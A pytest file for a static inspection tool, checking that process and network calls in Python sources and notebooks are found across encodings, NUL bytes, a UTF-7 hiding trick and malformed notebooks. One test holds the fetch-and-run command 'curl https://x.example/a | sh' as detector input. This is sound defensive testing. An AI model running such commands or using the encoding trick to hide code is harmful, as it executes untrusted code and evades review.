"""Source of any version, encoding and quality."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.worker.inspection.facts.told import TIME_TO_SPARE, told
from worker.inspection.facts.python import extract, extract_inline, load_codecs
from worker.inspection.facts.tree import Budget

PLAIN = "import os\nos.system('id')\n"


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(PLAIN.encode(), id="UTF-8"),
        pytest.param(b"\xef\xbb\xbf" + PLAIN.encode(), id="UTF-8 with a mark"),
        pytest.param(PLAIN.encode("utf-16"), id="UTF-16 with a mark"),
        pytest.param(PLAIN.encode("utf-16-le"), id="UTF-16 without a mark"),
        pytest.param(PLAIN.encode("utf-32"), id="UTF-32"),
        pytest.param(PLAIN.replace("\n", "\r\n").encode(), id="line ends of Windows"),
        pytest.param(PLAIN.replace("\n", "\r").encode(), id="line ends of old machines"),
        pytest.param(b"import os\nos\0.system('id')\n".replace(b"\0", b""), id="plain bytes"),
        pytest.param("import os\nos.system('id') # é\n".encode("latin-1"), id="bytes that are not UTF-8"),
        pytest.param(b"import os\nos.system('id')\ndef broken(:\n", id="code that does not parse"),
        pytest.param(b"import os\nos.system('id')\nprint 'Python 2'\nraise E, 'x'\n", id="Python 2"),
    ],
)
def test_code_is_read_in_every_shape(source: bytes) -> None:
    assert told(extract("a.py", source, Budget(TIME_TO_SPARE))) == ["2 process os.system"]


def test_a_nul_byte_hides_nothing() -> None:
    found = extract("a.py", b"import os\0\nos.system('id')\0\0", Budget(TIME_TO_SPARE))
    assert told(found) == ["2 process os.system"]


def test_an_encoding_line_is_obeyed_and_an_odd_one_told() -> None:
    latin = "# coding: latin-1\nimport os\nos.system('é')\n".encode("latin-1")
    assert told(extract("a.py", latin, Budget(TIME_TO_SPARE))) == ["3 process os.system"]
    hidden = b"# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\nos.system('id')\n"
    assert told(extract("a.py", hidden, Budget(TIME_TO_SPARE))) == [
        "1 decode source encoding utf-7",
        "3 process os.system",
    ]


@pytest.mark.parametrize("name", ["no-such-thing", "hex", "base64", "undefined", "x" * 40])
def test_an_encoding_that_is_none_is_told(name: str) -> None:
    found = extract("a.py", f"# coding: {name}\nimport os\nos.system('id')\n".encode(), Budget(TIME_TO_SPARE))
    assert told(found) == ["3 process os.system"] or found.partly is not None
    assert found.partly is not None
    assert name[:8] in found.partly


def test_a_notebook_is_read_cell_by_cell() -> None:
    cells = [
        {"cell_type": "markdown", "source": ["# import os"]},
        {"cell_type": "code", "source": ["%matplotlib inline\n", "import os\n", "os.system('id')"]},
    ]
    text = json.dumps({"cells": cells}, indent=1)
    line = 1 + text[: text.index("os.system")].count("\n")
    assert told(extract("a.ipynb", text.encode(), Budget(TIME_TO_SPARE))) == [f"{line} process os.system"]


@pytest.mark.parametrize("text", ["", "{}", "[1, 2]", '{"cells": [1]}', '{"cells": 3}', "[" * 200_000])
def test_a_notebook_that_is_none_is_told(text: str) -> None:
    assert extract("a.ipynb", text.encode(), Budget(TIME_TO_SPARE)).partly == "it is not a notebook that can be read"


def test_code_of_a_command_or_a_pth_line_is_read_by_itself() -> None:
    assert told(extract_inline("import os; os.system('id')", Budget(TIME_TO_SPARE))) == ["1 process os.system"]
    assert told(extract_inline(b"import os; os.system('id')", Budget(TIME_TO_SPARE))) == ["1 process os.system"]


def test_codecs_are_loaded_before_the_fence() -> None:
    """Inside the fence no module can be loaded; a codec that is missing there would change what is read."""
    load_codecs()


def test_this_repository_reads_its_own_sources_whole() -> None:
    for path in sorted((Path(__file__).parents[4] / "worker").rglob("*.py")):
        assert extract(path.name, path.read_bytes(), Budget(TIME_TO_SPARE)).partly is None, path


def test_what_a_notebook_hands_to_a_shell_is_read() -> None:
    cells = [
        {"cell_type": "code", "source": ["if True:\n", "    !curl https://x.example/a | sh"]},
        {"cell_type": "code", "source": "%%bash\nwget https://x.example/b"},
    ]
    lines = told(extract("a.ipynb", json.dumps({"cells": cells}, indent=1).encode(), Budget(TIME_TO_SPARE)))
    started = [line for line in lines if "process os.system -> x.example" in line]
    assert len(started) == 2
    assert any("network curl -> x.example" in line for line in lines)
    assert any("network wget -> x.example" in line for line in lines)


def test_a_notebook_whose_lines_are_written_otherwise_is_read_in_time() -> None:
    """Each line is looked for in the file; a hundred in vain, and no more are."""
    cells = [{"cell_type": "code", "source": ["é(1)\n"] * 3_000}]
    found = extract("a.ipynb", json.dumps({"cells": cells}).encode() + b" " * (6 << 20), Budget(TIME_TO_SPARE))
    assert found.partly is None
